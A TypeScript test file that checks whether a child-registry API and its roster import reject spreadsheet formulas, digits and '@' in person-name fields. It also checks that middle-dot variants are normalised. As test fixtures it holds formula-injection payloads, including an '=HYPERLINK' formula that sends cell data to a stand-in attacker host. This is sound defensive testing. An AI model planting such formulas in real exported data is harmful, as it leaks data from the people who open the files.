/**
 * Names must look like names (issue 12 point 2, on entry): the API and the
 * import refuse a formula, digits or `@` in the child's, the parents', the
 * carer's and the other person-name fields, naming the field; look-alikes of
 * the middle dot are stored as `·`.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChildDetail } from '../../../domain/children/schema.js';
import { createTestApp, dialectUnderTest, signIn, type Session, type TestApp } from '../../test/harness.js';
import { buildRoster, rosterRow, upload, waitForJob } from '../children-import/import-test-files.js';
import { supervisionInput } from '../orders/orders.test-data.js';
import { reportInput } from '../reports/reports.test-data.js';
import { childInput } from './children.test-data.js';

const away = { status: 'working_away' as const, since: '2025-02-01', skills: [], workProvince: '广东省' };

describe(`person names on entry (${dialectUnderTest()})`, () => {
  let t: TestApp;
  let supervisor: Session;
  let child: ChildDetail;
  const count = async () => Number((await t.deps.db.selectFrom('children').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);

  beforeAll(async () => {
    t = await createTestApp();
    supervisor = await signIn(t, 'supervisor-431202001000');
    const res = await supervisor.request('POST', '/api/children', childInput({ name: '阿依古丽•买买提', idNumber: null, birthDate: '2014-09-09', caregiver: { kind: 'grandparent', capacity: 'fair', name: '努尔・买买提' } }));
    expect(res.status, res.body).toBe(201);
    child = res.json() as ChildDetail;
  });
  afterAll(() => t.close());

  it('stores a transliterated name with the middle dot, whatever dot was typed', () => {
    expect(child.name).toBe('阿依古丽·买买提');
    expect(child.caregiver.name).toBe('努尔·买买提');
  });

  it.each([
    ['name', { name: '=HYPERLINK("http://evil.example/?"&A1,"点击")' }],
    ['name', { name: '+SUM(1,1)' }],
    ['name', { name: '王小明2' }],
    ['father.name', { father: { ...away, name: '@王大山' } }],
    ['mother.name', { mother: { ...away, name: '-李秀英' } }],
    ['caregiver.name', { caregiver: { kind: 'grandparent' as const, capacity: 'fair' as const, name: '=1+1' } }],
  ])('refuses a registration with a bad %s, naming the field in both languages, writing nothing', async (field, overrides) => {
    const before = await count();
    const res = await supervisor.request('POST', '/api/children', childInput({ idNumber: null, ...overrides }));
    expect(res.status, res.body).toBe(400);
    const body = res.json() as { error: { code: string; field: string; message: string } };
    expect(body.error).toMatchObject({ code: 'VALIDATION', field });
    expect(body.error.message).toContain('须为姓名');
    const english = await supervisor.request('POST', '/api/children', childInput({ idNumber: null, ...overrides }), { 'accept-language': 'en-US' });
    expect((english.json() as typeof body).error.message).toContain('must be a name');
    expect(await count()).toBe(before);
  });

  it('refuses an edit to a formula name, and the duplicate check too', async () => {
    const { regionCode: _r, ...rest } = childInput({ name: '=HYPERLINK("x")', idNumber: null, birthDate: '2014-09-09' });
    const edit = await supervisor.request('PUT', `/api/children/${child.id}`, { ...rest, version: child.version });
    expect(edit.status).toBe(400);
    expect(edit.json()).toMatchObject({ error: { code: 'VALIDATION', field: 'name' } });
    const check = await supervisor.request('POST', '/api/children/duplicates', { name: '+SUM(1,1)', birthDate: '2014-09-09', regionCode: '431202001201' });
    expect(check.status).toBe(400);
    expect(check.json()).toMatchObject({ error: { field: 'name' } });
  });

  it('refuses a formula as the signer of a letter, the reporter of a report and the addressee of an order', async () => {
    const letter = await supervisor.request('POST', `/api/children/${child.id}/letters`, { kind: 'guardian', signedOn: '2026-11-20', guardianName: '=HYPERLINK("x")', guardianRelation: 'father' });
    expect(letter.status).toBe(400);
    expect(letter.json()).toMatchObject({ error: { field: 'guardianName' } });
    const report = await supervisor.request('POST', `/api/children/${child.id}/reports`, reportInput({ reporterName: '+SUM(1,1)' }));
    expect(report.status).toBe(400);
    expect(report.json()).toMatchObject({ error: { field: 'reporterName' } });
    const order = await supervisor.request('POST', `/api/children/${child.id}/orders`, supervisionInput({ addresseeName: '@李大山' }));
    expect(order.status).toBe(400);
    expect(order.json()).toMatchObject({ error: { field: 'addresseeName' } });
  });

  it('refuses such rows on import, naming the column, and imports nothing', async () => {
    const roster = await buildRoster([
      rosterRow({ 姓名: '=HYPERLINK("http://evil.example","x")', 出生日期: '2013-03-03', 身份证号: null }),
      rosterRow({ 姓名: '古丽·艾力', 出生日期: '2013-04-04', 身份证号: null, 父亲姓名: '+SUM(1,1)' }),
      rosterRow({ 姓名: '欧阳娜娜', 出生日期: '2013-05-05', 身份证号: null, 监护人姓名: '王奶奶' }),
    ]);
    const before = await count();
    const up = await upload(supervisor, roster, { dryRun: false });
    const job = await waitForJob(supervisor, up.jobId!);
    expect(job.result!.committed).toBe(false);
    expect(job.result!.errors.map((e) => [e.row, e.field, e.message])).toEqual([
      [2, 'name', '姓名：须为姓名：汉字或字母，可用间隔号（·）、空格、连字符或撇号隔开，不能含数字或 = + @ 等符号'],
      [3, 'father.name', '父亲姓名：须为姓名：汉字或字母，可用间隔号（·）、空格、连字符或撇号隔开，不能含数字或 = + @ 等符号'],
    ]);
    expect(await count()).toBe(before);
  });
});
